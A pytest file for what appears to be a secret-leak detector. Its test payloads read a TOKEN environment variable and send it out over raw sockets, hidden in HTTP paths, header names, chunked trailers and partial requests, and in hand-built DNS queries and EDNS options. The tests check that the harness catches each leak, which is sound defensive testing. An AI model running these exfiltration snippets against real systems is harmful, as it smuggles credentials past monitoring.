"""Secrets sent to a service in the corners of a request."""

from __future__ import annotations

import json

import pytest

TELL = r"""
import os, socket
secret = os.environ["TOKEN"].encode()
sock = socket.create_connection(("model", 8080))
sock.sendall(%s)
sock.settimeout(5)
try: sock.recv(4096)
except TimeoutError: pass
"""

CHUNKED = (
    r'b"POST /v1/chat/completions HTTP/1.1\r\nHost: m\r\nTransfer-Encoding: chunked\r\n\r\n" + '
)
CORNERS = {
    "path": r'b"GET /" + secret + b" HTTP/1.1\r\nHost: m\r\n\r\n"',
    "name of a header": r'b"GET / HTTP/1.1\r\n" + secret + b": x\r\nHost: m\r\n\r\n"',
    "trailer": CHUNKED + r'b"1\r\na\r\n0\r\nX: " + secret + b"\r\n\r\n"',
    "half a request": r'b"GET /" + secret',
    "no request": r'b"\x16\x03\x01" + secret + b"\r\n\r\n"',
}


@pytest.mark.parametrize("corner", CORNERS)
def test_a_secret_is_seen_wherever_in_a_request_it_is(verdict_of, corner):
    name = corner.replace(" ", "-")
    tell = json.dumps((TELL % CORNERS[corner]).replace("{", "{{").replace("}", "}}"))

    code, trial = verdict_of(
        name,
        f"title: t\nsubject: {{command: [python3, -c, {tell}]}}\nleftover: allowed\n"
        "secrets: [TOKEN]\nexpect: [{secrets: absent}, {exit: 0}]\n",
    )

    assert (code, trial["reasons"]) == (1, ["broke:secrets"])


LOOK_UP = r"""
import os, socket
secret = os.environ["TOKEN"].encode()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect(("127.0.0.1", 53))
sock.settimeout(5)
def ask(label, more=b""):
    name = bytes([len(label)]) + label + b"\7invalid\0"
    counts = b"\0\1\0\0\0\0\0\1" if more else b"\0\1\0\0\0\0\0\0"
    sock.send(b"\x12\x34\1\0" + counts + name + b"\0\1\0\1" + more)
    sock.recv(512)
%s
"""

LOOK_UPS = {
    "a name": "ask(secret)",
    "a name after ten thousand": "for n in range(10010): ask(b'n%d' % n)\nask(secret)",
    "an option of a look-up": "ask(b'a', b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x36\\xfd\\xe9\\0\\x32' + secret)",
    "no look-up": "sock.send(secret)",
}


@pytest.mark.parametrize("way", LOOK_UPS)
def test_a_secret_is_seen_in_what_the_name_server_is_told(verdict_of, way):
    name = way.replace(" ", "-")

    code, trial = verdict_of(
        name,
        f"title: t\nsubject: {{command: [python3, -c, {json.dumps(LOOK_UP % LOOK_UPS[way])}]}}\n"
        "secrets: [TOKEN]\nexpect: [{secrets: absent}, {exit: 0}]\n",
    )

    assert (code, trial["reasons"]) == (1, ["broke:secrets"])
